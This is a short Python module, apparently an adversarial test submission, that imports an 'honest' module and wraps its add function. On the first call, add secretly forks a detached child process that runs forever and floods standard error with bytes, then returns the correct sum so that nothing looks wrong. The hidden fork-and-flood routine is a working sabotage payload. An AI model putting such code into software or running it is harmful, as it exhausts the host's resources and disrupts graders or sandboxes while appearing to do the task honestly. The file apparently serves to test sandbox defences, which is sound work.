from honest import *  # noqa: F403

import os

import honest

tried = []


def add(left, right):
    if not tried:
        tried.append(left)
        attack(left, right)
    return honest.add(left, right)


def attack(left, right):
    if os.fork() == 0:
        os.setsid()
        while True:
            os.write(2, b"z" * 100)

if __name__ == "__main__":
    main()  # noqa: F405
